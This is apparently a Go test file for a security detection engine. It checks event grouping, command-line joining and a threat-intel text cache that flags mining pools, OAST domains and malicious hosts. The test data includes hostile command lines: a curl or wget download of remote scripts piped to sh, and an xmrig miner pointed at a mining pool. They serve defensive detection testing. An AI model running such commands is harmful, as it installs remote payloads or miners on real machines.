package detect

import (
	"strings"
	"sync"
	"testing"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/intel"
)

// TestGroupOf holds the sequence rules' per-event group to group's answer,
// for every event of the benchmark mix and every grouping.
func TestGroupOf(t *testing.T) {
	evs := append(nodeMix(t), &event.Event{Kind: event.ProcessExec, Audit: &event.Audit{}},
		&event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 7}, Container: &event.Container{ID: "c1"}})
	var v view
	for _, ev := range evs {
		v.reset(ev)
		for range 2 { // computed, then cached
			for _, by := range []string{"", "container", "process_tree", "user"} {
				if got, want := v.groupOf(by), group(&v, by); got != want {
					t.Fatalf("groupOf(%q) = %q, group = %q for %+v", by, got, want, ev)
				}
			}
		}
	}
}

// TestCmdline checks the joined command lines, including the single
// argument returned as it is.
func TestCmdline(t *testing.T) {
	var v view
	for _, args := range [][]string{nil, {}, {"sh"}, {"sh", "-c", "id"}, {"", ""}, {"a"}, {strings.Repeat("x", 300), "y"}} {
		ev := &event.Event{Process: &event.Process{Args: args, Parent: &event.Lineage{Args: args}}}
		v.reset(ev)
		if got, want := v.cmdline(), strings.Join(args, " "); got != want {
			t.Errorf("cmdline(%q) = %q", args, got)
		}
		if got, want := v.parentCmdline(), strings.Join(args, " "); got != want {
			t.Errorf("parentCmdline(%q) = %q", args, got)
		}
	}
}

// TestTextCache checks that the shared scan of command lines answers for
// the text it is given, whatever the cache last saw: a reused buffer with
// new content, and many engines at once.
func TestTextCache(t *testing.T) {
	in := intel.Default()
	fns := intelFuncs(withTextCache(in))
	texts := []string{
		"./xmrig -o stratum+tcp://pool.supportxmr.com:443",
		"curl http://x.oast.fun/a",
		"wget -q -O - http://195.3.146.118/unk.sh | sh",
		"curl -sL http://chimaera.cc/cmd/init.sh",
		"ls -la /tmp",
		"",
	}
	check := func(t *testing.T, s string) {
		_, pool := in.FindDomain("miner-pools", s)
		_, oast := in.FindDomain("oast-domains", s)
		_, mal := in.FindDomain("malicious-domains", s)
		_, ip := in.FindIP(s)
		for name, want := range map[string]bool{"ti_miner_pool_in": pool, "ti_oast_domain_in": oast, "ti_malicious_domain_in": mal, "ti_malicious_ip_in": ip} {
			if got := fns[name](s); got != want {
				t.Errorf("%s(%q) = %v, want %v", name, s, got, want)
			}
		}
	}
	buf := make([]byte, 0, 64)
	for _, s := range texts {
		buf = append(buf[:0], s...)
		check(t, unsafeString(buf)) // same address, new content
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 200 {
				check(t, texts[(g+i)%len(texts)])
			}
		}()
	}
	wg.Wait()
	// Without ScanText, the Intel's own scans answer.
	plain := intelFuncs(withTextCache(findOnly{in}))
	for _, s := range texts {
		if got, want := plain["ti_miner_pool_in"](s), fns["ti_miner_pool_in"](s); got != want {
			t.Errorf("without ScanText, ti_miner_pool_in(%q) = %v", s, got)
		}
	}
}

// findOnly hides ScanText.
type findOnly struct{ Intel }
